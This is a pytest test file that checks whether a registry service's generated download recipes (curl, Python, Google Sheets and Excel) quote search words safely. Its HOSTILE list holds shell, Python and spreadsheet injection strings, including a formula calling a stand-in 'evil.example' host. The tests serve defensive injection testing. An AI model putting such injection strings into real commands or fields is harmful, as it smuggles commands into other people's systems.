"""Recipes: run as they stand against a real server on this machine, also for hostile questions."""

import ast
import shlex
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pytest
import uvicorn
from starlette.testclient import TestClient

from registry.catalogue.answer import ForumIndex
from registry.catalogue.query import parse
from registry.db import make_sessions
from registry.settings import Settings
from registry_api.app import create_app
from registry_api.pages import Pages, PagesOf
from registry_api.recipes import Recipe, recipes
from registry_api.site import Site
from registry_api.statics import Statics
from registry_api.views import ListPage, views
from tests.api.forums import keep, keep_lists, sample_cards
from tests.conftest import Template
from tests.formats.reading import rows

HOSTILE = [
    "tenants",
    "'; touch broken; '",
    '"; touch broken; "',
    "$(touch broken)",
    "`touch broken`",
    "a\nb\ntouch broken\n",
    "a\\' ; touch broken #",
    "x\"\"\");open('broken','w')#",
    "${IFS}&touch${IFS}broken&|;<>*?[]{}~!#%",
    '"&WEBSERVICE("http://evil.example")&"',
    "forum é 𝔘 \u202e",
]


@pytest.fixture(scope="module")
def served(sqlite_template: Template, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Settings]:
    """The service on a real socket of this machine."""
    sessions = make_sessions(sqlite_template.copy(tmp_path_factory.mktemp("served") / "registry.db"))
    keep_lists(sessions)
    keep(sessions, sample_cards())
    listening = socket.create_server(("127.0.0.1", 0))
    settings = Settings(base_url=f"http://127.0.0.1:{listening.getsockname()[1]}")
    config = uvicorn.Config(create_app(settings, sessions), log_level="warning", ws="none")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    yield settings
    server.should_exit = True
    thread.join(10)
    listening.close()
    sessions.dispose()


def recipes_for(settings: Settings, words: str) -> dict[str, Recipe]:
    site = Site.of(settings)
    index = ForumIndex.build(sample_cards())
    query = parse([("q", words)], index.terms)
    page = ListPage(index.answer(query), site, views(), PagesOf(Pages(site, Statics()), "/forums"))
    return {recipe.name: recipe for recipe in recipes(page)}


def expected(settings: Settings, words: str) -> list[str]:
    index = ForumIndex.build(sample_cards())
    return [hit.public_id for hit in index.answer(parse([("q", words)], index.terms)).hits]


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
@pytest.mark.parametrize("words", HOSTILE)
def test_the_command_line_saves_the_answer_and_runs_nothing_else(served: Settings, tmp_path: Path, words: str) -> None:
    recipe = recipes_for(served, words)["Command line"]
    for _ in ("first", "unchanged"):
        ran = subprocess.run(
            ["sh", "-eu", "-c", recipe.text], cwd=tmp_path, capture_output=True, timeout=60, check=False
        )
        assert (ran.returncode, ran.stderr) == (0, b"")
    assert [row["id"] for row in rows((tmp_path / "forums.csv").read_bytes())] == expected(served, words)
    assert {path.name for path in tmp_path.iterdir()} == {"forums.csv", "forums.etag"}
    assert shlex.split(recipe.text.replace("\\\n", " "))[-1].startswith(f"{served.base_url}/forums.csv?q=")


@pytest.mark.parametrize("words", HOSTILE)
def test_the_python_recipe_prints_the_answer_and_runs_nothing_else(
    served: Settings, tmp_path: Path, words: str
) -> None:
    recipe = recipes_for(served, words)["Python"]
    imported = {
        alias.name for node in ast.walk(ast.parse(recipe.text)) if isinstance(node, ast.Import) for alias in node.names
    }
    assert imported <= sys.stdlib_module_names
    ran = subprocess.run(
        [sys.executable, "-I", "-c", recipe.text], cwd=tmp_path, capture_output=True, timeout=60, check=False,
        env={"PYTHONIOENCODING": "utf-8"},
    )  # fmt: skip
    assert (ran.returncode, ran.stderr) == (0, b"")
    lines = ran.stdout.decode().splitlines()
    assert [line.split("\t")[0] for line in lines] == expected(served, words)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("words", HOSTILE)
def test_formulas_hold_one_string_which_is_the_address(served: Settings, words: str) -> None:
    found = recipes_for(served, words)
    formula = found["Google Sheets"].text
    assert formula.startswith('=IMPORTDATA("')
    assert formula.endswith('")')
    inner = formula.removeprefix('=IMPORTDATA("').removesuffix('")')
    assert '"' not in inner.replace('""', "")
    assert unquote(inner).split("?q=")[1] == " ".join(unquote(inner).split("?q=")[1].split())
    query = found["Excel"].text
    assert query.count(f'Web.Contents("{inner}")') == 1
    assert query.count('"') == 4
    assert all(sign.isprintable() or sign == "\n" for recipe in found.values() for sign in recipe.text)


def test_a_base_address_with_signs_is_quoted_too() -> None:
    odd = Settings(base_url="http://127.0.0.1:1/$(id)'\"`x`")
    found = recipes_for(odd, "x")
    assert shlex.split(found["Command line"].text.replace("\\\n", " "))[-1].startswith(odd.base_url)
    assigned = next(node for node in ast.walk(ast.parse(found["Python"].text)) if isinstance(node, ast.Assign))
    assert ast.literal_eval(assigned.value).startswith(odd.base_url)
    assert found["Google Sheets"].text.count('"') == 4


def test_addresses_of_recipes_are_answered(reader: TestClient) -> None:
    for recipe in recipes_for(Settings(base_url="https://registry.example"), "tenants").values():
        assert recipe.about.endswith(".")
        assert all(step.endswith(".") for step in recipe.steps)
        if recipe.language == "address":
            assert reader.get(recipe.text).status_code == 200
